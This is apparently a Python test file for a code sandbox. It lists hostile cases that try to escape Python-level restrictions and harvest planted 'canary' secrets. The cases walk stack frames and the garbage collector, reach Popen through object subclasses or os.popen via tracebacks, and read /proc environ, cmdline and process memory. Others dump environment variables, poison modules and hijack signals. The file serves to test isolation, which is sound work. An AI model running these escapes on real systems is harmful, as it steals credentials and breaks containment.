"""The language as a way out: nothing of Python is forbidden in a node, so what it leads to must hold no secret."""

from qflow_runner.attack.probe import case, cases

SEARCH = '''
def search(texts):
    """Anything that looks like a planted secret."""
    for text in texts:
        if "canary" in text:
            seen(text[max(0, text.index("canary") - 50):][:200])


def steal(run):
    """With a shell: files of the host, the environment, other processes."""
    for command in (
        "cat " + " ".join(hints["host_files"]),
        "cat /proc/*/environ | tr '\\\\0' '\\\\n'",
        "cat /proc/*/cmdline | tr '\\\\0' ' '",
        "find / -xdev -newermt 2020-01-01 -type f -size -64k 2>/dev/null | head -2000 | xargs grep -ls canary | head",
    ):
        search([run(command)])
'''

LEAVES_POISON = """
def attack(hints: dict) -> dict:
    import builtins, importlib, json
    import qflow_agent.codec, qflow_agent.channel
    def broken(*args, **kwargs):
        raise RuntimeError("poisoned")
    json.loads = json.dumps = broken
    builtins.len = lambda _thing: 0
    for name in list(sys.modules):
        if name.startswith("qflow_agent"):
            for key, value in list(vars(sys.modules[name]).items()):
                if callable(value) and not isinstance(value, type) and key.startswith("de"):
                    setattr(sys.modules[name], key, broken)
    return end()
"""

CASES = [
    *cases(
        "hostile: language",
        [
            (
                "frames lead to the agent's own variables",
                SEARCH
                + """
def attack(hints: dict) -> dict:
    globals()["hints"] = hints
    frame = sys._getframe()
    while frame:
        search([repr(value)[:5000] for value in [*frame.f_locals.values(), *frame.f_globals.values()]
                if value is not hints and not isinstance(value, type(sys))])
        frame = frame.f_back
    return end()
""",
            ),
            (
                "subclasses of object lead to a shell",
                SEARCH
                + """
def attack(hints: dict) -> dict:
    globals()["hints"] = hints
    import subprocess
    shell = [each for each in ().__class__.__base__.__subclasses__() if each.__name__ == "Popen"][0]
    steal(lambda line: shell(line, shell=True, stdout=-1, stderr=-3, text=True, errors="replace").communicate(timeout=5)[0])
    return end()
""",
            ),
            (
                "an exception's traceback leads to builtins",
                SEARCH
                + """
def attack(hints: dict) -> dict:
    globals()["hints"] = hints
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    module = frame.f_globals["__builtins__"]
    importer = module["__import__"] if isinstance(module, dict) else module.__import__
    steal(lambda line: importer("os").popen(line).read())
    return end()
""",
            ),
            (
                "a format string reads attributes",
                SEARCH
                + """
def attack(hints: dict) -> dict:
    globals()["hints"] = hints
    import qflow_agent.session as session
    class Thing:
        def method(self):
            return session
    search(["{0.method.__globals__}".format(Thing()), "{0.__dict__}".format(session)])
    text = "{0.method.__globals__[os].environ}".format(Thing())
    search([text])
    return end()
""",
            ),
            (
                "import machinery loads what it likes",
                SEARCH
                + """
def attack(hints: dict) -> dict:
    globals()["hints"] = hints
    import importlib.util
    for path in hints["host_files"]:
        def load():
            spec = importlib.util.spec_from_file_location("stolen", path, loader=importlib.machinery.SourceFileLoader("stolen", path))
            return spec.loader.get_data(path).decode()
        refused("read " + path, load)
    return end()
""",
            ),
            (
                "the garbage collector knows every object",
                SEARCH
                + """
def attack(hints: dict) -> dict:
    globals()["hints"] = hints
    import gc
    own = {id(hints), *map(id, hints.values())}
    for each in gc.get_objects():
        if isinstance(each, dict) and id(each) not in own and each is not globals():
            search([key + "=" + value for key, value in list(each.items()) if isinstance(key, str) and isinstance(value, str)])
    return end()
""",
            ),
            (
                "own memory holds what was there before the fork",
                """
def attack(hints: dict) -> dict:
    import re
    # Whole secrets of neighbours: a planted one is "canary-" and 32 hex digits; the pattern is not one itself.
    pattern = re.compile(b"cana" + b"ry-[0-9a-f]{32}")
    found = set()
    try:
        maps, memory = open("/proc/self/maps"), open("/proc/self/mem", "rb", 0)
    except OSError as error:
        told["memory"] = str(error)
        return end()
    with maps, memory:
        for line in maps:
            place, rights = line.split()[:2]
            start, stop = (int(each, 16) for each in place.split("-"))
            if "r" not in rights or stop - start > 1 << 28 or line.rstrip().endswith(("[vvar]", "[vsyscall]")):
                continue
            try:
                memory.seek(start)
                found.update(pattern.findall(memory.read(stop - start)))
            except (OSError, OverflowError):
                continue
    for each in found:
        seen(each.decode())
    return end()
""",
            ),
            (
                "secrets in the environment",
                """
def attack(hints: dict) -> dict:
    seen(dict(os.environ))
    return end()
""",
            ),
        ],
    ),
    case(
        "hostile: language",
        "modules are poisoned for whoever comes next",
        LEAVES_POISON,
        harms_itself=True,
        expect=["ok", "user_code", "sandbox", "internal"],
    ),
    case(
        "hostile: language",
        "bytecode that crashes the interpreter",
        """
def attack(hints: dict) -> dict:
    ctypes.string_at(0)
    return end()
""",
        expect=["user_code", "sandbox"],
    ),
    case(
        "hostile: language",
        "a thread goes on after the run",
        """
def attack(hints: dict) -> dict:
    import threading
    def later():
        stop = time.monotonic() + 20
        while time.monotonic() < stop:
            for name in list(sys.modules):
                if name.startswith("qflow_agent"):
                    vars(sys.modules[name]).pop("call", None)
            time.sleep(0.01)
    threading.Thread(target=later, daemon=True).start()
    return end()
""",
        harms_itself=True,
        expect=["ok", "internal", "sandbox", "user_code"],
    ),
    case(
        "hostile: language",
        "a frozen session: signals and exit hooks are taken over",
        """
def attack(hints: dict) -> dict:
    import atexit, signal
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    atexit.register(time.sleep, 60)
    sys.exit(3)
""",
        expect=["user_code"],
    ),
]
